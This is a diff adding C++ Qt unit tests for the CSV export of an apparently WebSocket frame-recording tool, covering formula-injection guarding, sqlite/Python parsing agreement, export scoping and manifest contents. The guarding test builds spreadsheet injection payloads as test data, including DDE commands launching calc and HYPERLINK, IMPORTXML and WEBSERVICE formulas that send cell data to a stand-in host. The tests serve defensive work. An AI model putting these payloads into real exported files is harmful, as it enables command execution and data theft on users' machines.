@@ -276,8 +276,160 @@ private Q_SLOTS:
             const bool guarded = cell(rows[i], "guarded") == "text";
             QCOMPARE(guarded, !guardedCell(texts[i]).isNull());
             const QByteArray read = cell(rows[i], "text");
-            QCOMPARE(guarded ? unguarded(read) : read, texts[i]);
+            QCOMPARE(guarded ? unguarded(read) : read, texts[i].constData());
         }
+    }
+
+    /// What a spreadsheet could take for a formula, written a hundred ways, as message ids and as a file's own text.
+    void hundredHostileCellsAreGuardedInEveryColumn()
+    {
+        const QByteArrayList starts{"=", "+", "-", "@", "\t", "\r", "\n", " =", "\xc2\xa0=", "\xef\xbc\x9d"};
+        const QByteArrayList rests{"1+1",
+                                   "cmd|' /C calc'!A0",
+                                   "HYPERLINK(\"http://x/?\"&A1,\"click\")",
+                                   "SUM(A1:A9)*2",
+                                   "DDE(\"cmd\";\"/C calc\";\"!A0\")",
+                                   "IMPORTXML(CONCAT(\"http://x/\",A1),\"//a\")",
+                                   "2+3\r\n=4",
+                                   "\"quoted\",\"more\"",
+                                   "WEBSERVICE(\"http://x\")",
+                                   "'apostrophe"};
+        const QString path = m_folder.filePath(QStringLiteral("hostile.framescope"));
+        auto writer = SessionWriter::create(path, sessionInfo());
+        QVERIFY(writer);
+        QByteArrayList texts;
+        for (const QByteArray& start : starts) {
+            for (const QByteArray& rest : rests)
+                texts += start + rest;
+        }
+        for (const QByteArray& text : texts) {
+            AuditEvent event = connectedEvent();
+            event.object = text;
+            (void)(*writer)->append(event);
+            (*writer)->append(
+                makeBatch({{.type = text, .payload = text, .opcode = Opcode::Text}}, quint64(texts.indexOf(text)) + 1));
+        }
+        QVERIFY((*writer)->close());
+        ExportRequest hostile = request(ExportWhat::Frames, ExportFormat::Csv);
+        hostile.sessionPath = path;
+        const QJsonArray frames = readByPython(exported(hostile));
+        hostile.what = ExportWhat::Audit;
+        hostile.includeFrames = false;
+        const QJsonArray events = readByPython(exported(hostile));
+        QCOMPARE(frames.size(), 100);
+        QCOMPARE(events.size(), 100);
+        const auto isHarmless = [](const QByteArray& text) { return guardedCell(text).isNull(); };
+        for (int i = 0; i < 100; ++i) {
+            QVERIFY2(isHarmless(cell(frames[i], "msg_type")) && isHarmless(cell(frames[i], "preview")), texts[i].constData());
+            QCOMPARE(cell(frames[i], "guarded").split(';').contains("msg_type"), !isHarmless(texts[i]));
+            QVERIFY2(isHarmless(cell(events[i], "object")), texts[i].constData());
+            QCOMPARE(unguarded(cell(events[i], "object")), texts[i]);
+        }
+    }
+
+    void sqliteReadsTheSameRowsAsPython()
+    {
+        const QString csv = m_folder.filePath(QStringLiteral("for-sqlite.csv"));
+        QVERIFY(exportToFile(csv, request(ExportWhat::Audit, ExportFormat::Csv)));
+        QProcess sqlite;
+        sqlite.setWorkingDirectory(m_folder.path());
+        sqlite.start(QStringLiteral("sqlite3"),
+                     {QStringLiteral(":memory:"), QStringLiteral(".mode json"),
+                      QStringLiteral(".import --csv for-sqlite.csv rows"), QStringLiteral("select * from rows")});
+        if (!sqlite.waitForStarted())
+            QSKIP("sqlite3 is not installed");
+        QVERIFY(sqlite.waitForFinished(60'000));
+        QCOMPARE(sqlite.readAllStandardError(), QByteArray());
+        const QJsonArray bySqlite = QJsonDocument::fromJson(sqlite.readAllStandardOutput()).array();
+        QFile file(csv);
+        QVERIFY(file.open(QIODevice::ReadOnly));
+        const QJsonArray byPython = readByPython(file.readAll());
+        QCOMPARE(bySqlite.size(), qsizetype(300 + m_events));
+        QCOMPARE(bySqlite, byPython);
+    }
+
+    void scopeTakesTimesAndSelectedFrames()
+    {
+        const auto numbersOf = [](const ExportRequest& wanted) {
+            QList<int> numbers;
+            for (const QJsonValue& row : readByPython(exported(wanted)))
+                numbers += cell(row, "frame_no").toInt();
+            return numbers;
+        };
+        ExportRequest selected = request(ExportWhat::Frames, ExportFormat::Csv);
+        selected.scope.spans = {{3, 4}, {60, 61}, {299, 1'000}};
+        QCOMPARE(numbersOf(selected), (QList<int>{3, 4, 60, 61, 299, 300}));
+        selected.what = ExportWhat::Audit; // no events: nobody selected one
+        QCOMPARE(numbersOf(selected), (QList<int>{3, 4, 60, 61, 299, 300}));
+
+        ExportRequest timed = request(ExportWhat::Frames, ExportFormat::Csv);
+        timed.scope.fromWallNs = m_batches[1]->heads[10].wallNs;
+        timed.scope.untilWallNs = m_batches[2]->heads[20].wallNs;
+        QList<int> expected;
+        forEachFrame([&](const FrameBatch& batch, std::size_t i) {
+            const FrameHead& head = batch.heads[i];
+            if (head.wallNs >= timed.scope.fromWallNs && head.wallNs <= timed.scope.untilWallNs)
+                expected += int(head.number);
+        });
+        QVERIFY(expected.size() > 10 && expected.size() < 200);
+        QCOMPARE(numbersOf(timed), expected);
+    }
+
+    void manifestSaysWhatWasExported()
+    {
+        const QString path = m_folder.filePath(QStringLiteral("said.csv"));
+        ExportRequest wanted = request(ExportWhat::Frames, ExportFormat::Csv);
+        wanted.filter = *FrameFilter::parse(QStringLiteral("check.status == fail"));
+        wanted.scope.spans = {{10, 200}};
+        const auto result = exportToFile(path, wanted);
+        QVERIFY(result);
+        QFile exportedFile(path);
+        QFile manifestFile(path + QStringLiteral(".manifest.json"));
+        QVERIFY(exportedFile.open(QIODevice::ReadOnly) && manifestFile.open(QIODevice::ReadOnly));
+        const QByteArray csv = exportedFile.readAll();
+        const QJsonObject manifest = QJsonDocument::fromJson(manifestFile.readAll()).object();
+        const auto member = [&manifest](const char* name) { return manifest[QLatin1String(name)]; };
+        QCOMPARE(member("filter").toString(), QStringLiteral("check.status == fail"));
+        QCOMPARE(member("scope")[QStringLiteral("frames")].toArray(), (QJsonArray{QJsonArray{10, 200}}));
+        QCOMPARE(member("rows").toInteger(), qint64(readByPython(csv).size()));
+        QCOMPARE(member("first_frame").toInteger(), qint64(result->firstFrame));
+        QVERIFY(result->firstFrame >= 10 && result->lastFrame <= 200);
+        QCOMPARE(member("file")[QStringLiteral("sha256")].toString().toLatin1(),
+                 QCryptographicHash::hash(csv, QCryptographicHash::Sha256).toHex());
+        QCOMPARE(member("file")[QStringLiteral("bytes")].toInteger(), csv.size());
+        QCOMPARE(member("session")[QStringLiteral("id")].toString().toLatin1(), sessionInfo().sessionId);
+        QCOMPARE(member("audit")[QStringLiteral("seq")].toInteger(), qint64(300 + m_events));
+        QCOMPARE(member("audit")[QStringLiteral("head")].toString().size(), 64);
+        constexpr auto others = QFileDevice::Permissions(0x0077);
+        QCOMPARE(manifestFile.permissions() & others, QFileDevice::Permissions());
+    }
+
+    void manifestCountsTheLossesOfItsRange()
+    {
+        const QString session = m_folder.filePath(QStringLiteral("losses.framescope"));
+        auto writer = SessionWriter::create(session, sessionInfo());
+        QVERIFY(writer);
+        (*writer)->append(variedBatch(1, 20, 1));
+        (void)(*writer)->append(auditEvent(AuditAction::Gap, Severity::Warning, QStringLiteral("ws://h/"),
+                                           {{QStringLiteral("ms"), 1'200}}));
+        (*writer)->append(variedBatch(21, 20, 2));
+        QVERIFY((*writer)->close());
+        const QString path = m_folder.filePath(QStringLiteral("losses.csv"));
+        const auto gapsIn = [&](std::vector<FrameSpan> spans) {
+            ExportRequest wanted = request(ExportWhat::Frames, ExportFormat::Csv);
+            wanted.sessionPath = session;
+            wanted.scope.spans = std::move(spans);
+            if (!exportToFile(path, wanted))
+                return -1;
+            QFile manifest(path + QStringLiteral(".manifest.json"));
+            if (!manifest.open(QIODevice::ReadOnly))
+                return -1;
+            const QJsonValue losses = QJsonDocument::fromJson(manifest.readAll())[QStringLiteral("losses")];
+            return losses[QStringLiteral("counts")][QStringLiteral("gap")].toInt();
+        };
+        QCOMPARE(gapsIn({}), 1);
+        QCOMPARE(gapsIn({{15, 25}}), 1);
+        QCOMPARE(gapsIn({{21, 25}}), 0);
     }
 
     void jsonLinesHoldEachFrame()
